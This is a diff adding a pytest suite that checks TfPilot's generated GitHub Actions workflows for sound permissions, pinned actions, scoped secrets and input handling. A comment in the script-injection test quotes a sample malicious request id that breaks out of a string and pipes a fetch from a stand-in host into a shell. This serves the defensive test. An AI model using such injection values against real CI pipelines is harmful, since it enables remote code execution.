@@ -1,0 +1,243 @@
+"""The generated GitHub Actions workflows: valid YAML with the keys TfPilot relies on."""
+
+from __future__ import annotations
+
+import re
+from typing import Any
+
+import pytest
+import yaml
+
+from tests.scaffold.conftest import ENVS, WORKFLOW_KINDS, triggers
+
+ALLOWED_ACTIONS = {
+    "actions/checkout",
+    "hashicorp/setup-terraform",
+    "actions/upload-artifact",
+    "actions/download-artifact",
+}
+PINNED = re.compile(r"^v\d+(\.\d+){0,2}$")
+ALLOWED_PERMISSIONS = {"contents", "id-token", "pull-requests"}
+
+
+def steps(workflow: dict[str, Any]) -> list[dict[str, Any]]:
+    return [step for job in workflow["jobs"].values() for step in job["steps"]]
+
+
+def run_scripts(workflow: dict[str, Any]) -> list[str]:
+    return [step["run"] for step in steps(workflow) if "run" in step]
+
+
+def test_every_workflow_is_valid_yaml(files: dict[str, str]) -> None:
+    for kind in WORKFLOW_KINDS:
+        doc = yaml.safe_load(files[f".github/workflows/{kind}.yml"])
+        assert isinstance(doc, dict)
+        assert doc["name"] == f"tfpilot {kind}"
+        assert doc["jobs"]
+
+
+@pytest.mark.parametrize("kind", WORKFLOW_KINDS)
+def test_dispatch_inputs(kind: str, workflows: dict[str, dict[str, Any]]) -> None:
+    inputs = triggers(workflows[kind])["workflow_dispatch"]["inputs"]
+    assert set(inputs) == {"request_id", "environment"}
+    assert inputs["request_id"]["type"] == "string"
+    assert inputs["environment"]["type"] == "choice"
+    required = kind != "drift"  # the scheduled drift run covers every request
+    assert inputs["request_id"]["required"] is required
+    assert inputs["environment"]["required"] is required
+    options = inputs["environment"]["options"]
+    assert options == (["all", *ENVS] if kind == "drift" else ENVS)
+
+
+@pytest.mark.parametrize("kind", WORKFLOW_KINDS)
+def test_run_name_holds_the_request_id(kind: str, workflows: dict[str, dict[str, Any]]) -> None:
+    run_name = workflows[kind]["run-name"]
+    assert run_name.startswith(f"{kind} ")
+    assert "inputs.request_id" in run_name
+    assert "inputs.environment" in run_name
+
+
+def test_run_name_is_found_by_the_request_id_parser(workflows: dict[str, dict[str, Any]]) -> None:
+    from core.domain.ids import request_id_in_text
+    from core.domain.workflows import WorkflowNames
+
+    for kind in WORKFLOW_KINDS:
+        rendered = workflows[kind]["run-name"].replace("${{ inputs.request_id }}", "req_abc123def456")
+        rendered = rendered.replace("${{ inputs.request_id || 'all' }}", "req_abc123def456")
+        assert request_id_in_text(rendered) == "req_abc123def456", kind
+        assert WorkflowNames().kind_of(f".github/workflows/{kind}.yml") == kind
+
+
+@pytest.mark.parametrize("kind", WORKFLOW_KINDS)
+def test_concurrency(kind: str, workflows: dict[str, dict[str, Any]]) -> None:
+    concurrency = workflows[kind]["concurrency"]
+    group = concurrency["group"]
+    assert "github.repository" in group
+    assert "inputs.environment" in group
+    if kind in ("apply", "destroy"):
+        # One state writer per environment: apply and destroy share the queue.
+        assert group == "tfpilot-state-${{ github.repository }}-${{ inputs.environment }}"
+    else:
+        assert "inputs.request_id" in group
+    assert concurrency["cancel-in-progress"] is False
+
+
+def test_apply_and_destroy_share_one_queue(workflows: dict[str, dict[str, Any]]) -> None:
+    assert workflows["apply"]["concurrency"]["group"] == workflows["destroy"]["concurrency"]["group"]
+
+
+@pytest.mark.parametrize("kind", WORKFLOW_KINDS)
+def test_permissions_are_minimal(kind: str, workflows: dict[str, dict[str, Any]]) -> None:
+    permissions = workflows[kind]["permissions"]
+    assert isinstance(permissions, dict)
+    assert set(permissions) <= ALLOWED_PERMISSIONS
+    expected = (
+        {"contents": "write", "pull-requests": "write"}
+        if kind == "cleanup"
+        else {"contents": "read", "id-token": "write"}
+    )
+    assert permissions == expected
+    for job in workflows[kind]["jobs"].values():
+        assert "permissions" not in job  # nothing widened per job
+
+
+@pytest.mark.parametrize("kind", WORKFLOW_KINDS)
+def test_actions_are_allowed_and_pinned(kind: str, workflows: dict[str, dict[str, Any]], files: dict[str, str]) -> None:
+    used = [step["uses"] for step in steps(workflows[kind]) if "uses" in step]
+    assert used, "every workflow checks out the repository"
+    for ref in used:
+        action, _, version = ref.partition("@")
+        assert action in ALLOWED_ACTIONS, ref
+        assert PINNED.match(version), ref
+    # No action hides elsewhere (job-level uses, composite references) either.
+    raw_uses = re.findall(r"uses:\s*(\S+)", files[f".github/workflows/{kind}.yml"])
+    assert sorted(raw_uses) == sorted(used)
+
+
+@pytest.mark.parametrize("kind", WORKFLOW_KINDS)
+def test_inputs_and_secrets_never_spliced_into_scripts(kind: str, workflows: dict[str, dict[str, Any]]) -> None:
+    # Script injection: a request id like `x"; curl evil | sh` must reach shell code as data.
+    for script in run_scripts(workflows[kind]):
+        assert "${{" not in script, script
+
+
+@pytest.mark.parametrize("kind", WORKFLOW_KINDS)
+def test_inputs_are_checked_first(kind: str, workflows: dict[str, dict[str, Any]]) -> None:
+    scripts = run_scripts(workflows[kind])
+    assert scripts[0].startswith("python3 .github/tfpilot/tfpilot_ci.py check-inputs")
+
+
+@pytest.mark.parametrize("kind", WORKFLOW_KINDS)
+def test_checkout_keeps_no_token_unless_pushing(kind: str, workflows: dict[str, dict[str, Any]]) -> None:
+    checkout = next(s for s in steps(workflows[kind]) if s.get("uses", "").startswith("actions/checkout@"))
+    persist = (checkout.get("with") or {}).get("persist-credentials", True)
+    assert persist is (kind == "cleanup")
+
+
+def test_plan_uploads_plan_json(workflows: dict[str, dict[str, Any]]) -> None:
+    plan = workflows["plan"]
+    scripts = run_scripts(plan)
+    assert any("terraform plan" in s and "-out tfplan" in s for s in scripts)
+    assert "terraform show -json tfplan > plan.json" in scripts
+    uploads = [s for s in steps(plan) if s.get("uses", "").startswith("actions/upload-artifact@")]
+    tfplan = next(u for u in uploads if u["with"]["name"] == "tfplan-${{ inputs.request_id }}")
+    assert tfplan["with"]["path"] == "envs/${{ inputs.environment }}/plan.json"
+    assert tfplan["with"]["if-no-files-found"] == "error"
+    assert "if" not in tfplan and "continue-on-error" not in tfplan
+
+
+def test_plan_cost_is_optional_and_guarded(workflows: dict[str, dict[str, Any]]) -> None:
+    plan_steps = steps(workflows["plan"])
+    gate = next(s for s in plan_steps if s.get("id") == "infracost")
+    assert gate["env"]["INFRACOST_API_KEY"] == "${{ secrets.INFRACOST_API_KEY }}"
+    guarded = [s for s in plan_steps if s.get("if") == "steps.infracost.outputs.enabled == 'true'"]
+    assert len(guarded) == 2
+    cost, upload = guarded
+    assert cost["continue-on-error"] is True
+    assert "--format json --out-file infracost.json" in cost["run"]
+    assert "sha256sum -c" in cost["run"]  # the downloaded binary is verified
+    assert upload["with"]["name"] == "infracost-${{ inputs.request_id }}"
+    assert upload["with"]["path"].endswith("/infracost.json")
+    # The key reaches only the steps that use it.
+    for step in plan_steps:
+        if step not in (gate, cost):
+            assert "INFRACOST_API_KEY" not in str(step)
+
+
+def test_apply_runs_only_merged_code_on_the_base_branch(workflows: dict[str, dict[str, Any]]) -> None:
+    apply = workflows["apply"]
+    job = apply["jobs"]["apply"]
+    assert job["env"]["BASE_BRANCH"] == "${{ vars.TFPILOT_BASE_BRANCH || github.event.repository.default_branch }}"
+    scripts = run_scripts(apply)
+    assert (
+        scripts[0]
+        == 'python3 .github/tfpilot/tfpilot_ci.py check-inputs --require-branch "$BASE_BRANCH" --require-file'
+    )
+    assert any("terraform plan" in s and "-out tfplan" in s for s in scripts)
+    apply_step = next(s for s in scripts if s.startswith("terraform apply"))
+    assert apply_step.rstrip().endswith(" tfplan")  # the saved plan, nothing re-planned
+    assert not any("-target" in s for s in scripts)
+
+
+def test_destroy_is_scoped_to_the_request(workflows: dict[str, dict[str, Any]], files: dict[str, str]) -> None:
+    destroy = workflows["destroy"]
+    scripts = run_scripts(destroy)
+    checkout = next(s for s in steps(destroy) if s.get("uses", "").startswith("actions/checkout@"))
+    assert checkout["with"]["fetch-depth"] == 0
+    joined = "\n".join(scripts)
+    order = [
+        "check-inputs --require-branch",
+        "request-file --out",
+        "targets ",
+        "terraform plan -destroy",
+        "check-destroy ",
+        "terraform apply -input=false -no-color -lock-timeout=10m tfdestroy",
+    ]
+    positions = [joined.index(marker) for marker in order]
+    assert positions == sorted(positions)
+    assert '"-target=$address"' in joined
+    # The chosen approach is documented in the file itself.
+    text = files[".github/workflows/destroy.yml"]
+    assert "from the parent of the commit that removed it" in text
+    assert "-target" in text.split("name: tfpilot destroy")[0]
+
+
+def test_cleanup_opens_a_pr_on_the_cleanup_branch(workflows: dict[str, dict[str, Any]]) -> None:
+    cleanup = workflows["cleanup"]
+    job = cleanup["jobs"]["cleanup"]
+    assert job["env"]["GH_TOKEN"] == "${{ github.token }}"
+    script = run_scripts(cleanup)[1]
+    assert 'file="envs/$TF_ENV/tfpilot_$REQUEST_ID.tf"' in script
+    assert 'branch="cleanup/$REQUEST_ID"' in script
+    assert 'git rm --quiet "$file"' in script
+    assert 'gh pr create --base "$base" --head "$branch"' in script
+    assert 'gh pr list --head "$branch" --state open' in script  # idempotent
+
+
+def test_drift_schedule_and_webhooks(workflows: dict[str, dict[str, Any]]) -> None:
+    drift = workflows["drift"]
+    on = triggers(drift)
+    assert re.match(r"^[0-9*/,-]+( [0-9*/,-]+){4}$", on["schedule"][0]["cron"])
+    assert "workflow_dispatch" in on
+    job = drift["jobs"]["drift"]
+    assert job["env"]["TFPILOT_URL"] == "${{ vars.TFPILOT_URL || 'https://tfpilot.example.com' }}"
+    assert job["env"]["TFPILOT_PROJECT"] == "${{ vars.TFPILOT_PROJECT || 'core' }}"
+    matrix = job["strategy"]["matrix"]["environment"]
+    assert 'fromJSON(\'["dev","staging","prod"]\')' in matrix
+    plan = next(s for s in job["steps"] if s.get("id") == "plan")
+    assert "-detailed-exitcode" in plan["run"]
+    assert "-lock=false" in plan["run"]
+    report = job["steps"][-1]
+    assert report["env"]["TFPILOT_WEBHOOK_SECRET"] == "${{ secrets.TFPILOT_WEBHOOK_SECRET }}"
+    assert report["run"].startswith("python3 .github/tfpilot/tfpilot_ci.py drift ")
+    assert "TFPILOT_WEBHOOK_SECRET" not in str(job["env"])  # the secret reaches the report step only
+
+
+@pytest.mark.parametrize("kind", WORKFLOW_KINDS)
+def test_terraform_pinned_without_wrapper(kind: str, workflows: dict[str, dict[str, Any]]) -> None:
+    setups = [s for s in steps(workflows[kind]) if s.get("uses", "").startswith("hashicorp/setup-terraform@")]
+    if kind == "cleanup":
+        assert setups == []
+        return
+    (setup,) = setups
+    assert setup["with"] == {"terraform_version": "1.11.4", "terraform_wrapper": False}
